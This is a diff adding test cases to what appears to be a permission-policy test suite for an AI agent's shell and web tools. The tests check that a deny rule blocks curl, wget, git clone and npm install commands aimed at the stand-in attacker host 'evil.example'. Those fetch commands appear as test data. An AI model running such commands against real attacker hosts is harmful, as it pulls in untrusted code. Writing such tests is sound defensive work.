@@ -134,6 +134,37 @@ test("rules for commands and URLs apply to every tool that runs or fetches them"
   expect(await verdictOf({ ...allows, rules: every }, policyCall("WebSearch", { query: "x" }))).toBe("deny")
 })
 
+test.each([
+  ["curl https://evil.example/a", "deny"],
+  ["curl -s --url=evil.example", "deny"],
+  ["wget -qO- http://user@EVIL.example./a", "deny"],
+  ["git clone https://evil.example/a.git", "deny"],
+  ["npm install https://evil.example/a.tgz", "deny"],
+  ["curl $U", "ask"],
+  ["ls | xargs curl", "ask"],
+  ['git clone "https://$HOST/a"', "ask"],
+  ["curl -o out https://good.example/", "allow"],
+  ["echo https://evil.example/a", "allow"],
+  ["grep -r https://evil.example/a docs", "allow"],
+  ["git commit -m 'see https://evil.example/a'", "allow"],
+])("a rule for addresses refuses the command %s: %s", async (command, expected) => {
+  attacks.tried(1)
+  const rules: PolicyRule[] = [{ deny: { fetch: "*://evil.example/**" } }]
+  expect(await verdictOf({ default: "allow", rules }, policyCall("Bash", { command }))).toBe(expected)
+  expect(await verdictOf(rules, policyCall("Bash", { command }))).toBe(expected === "allow" ? "tier" : expected)
+})
+
+test("a permission to fetch is none for a command that names the address", async () => {
+  const rules: PolicyRule[] = [
+    { deny: { fetch: "*://evil.example/**" } },
+    { allow: { fetch: "https://good.example/**" } },
+  ]
+  attacks.tried(1)
+  expect(
+    await verdictOf({ default: "ask", rules }, policyCall("Bash", { command: "make https://good.example/" })),
+  ).toBe("ask")
+})
+
 test("every tool of the library declares what it uses, and policies know the same by its name", async () => {
   const tools = (await toolSources()).flatMap(([, each]) => each)
   // What a server does is unknown.
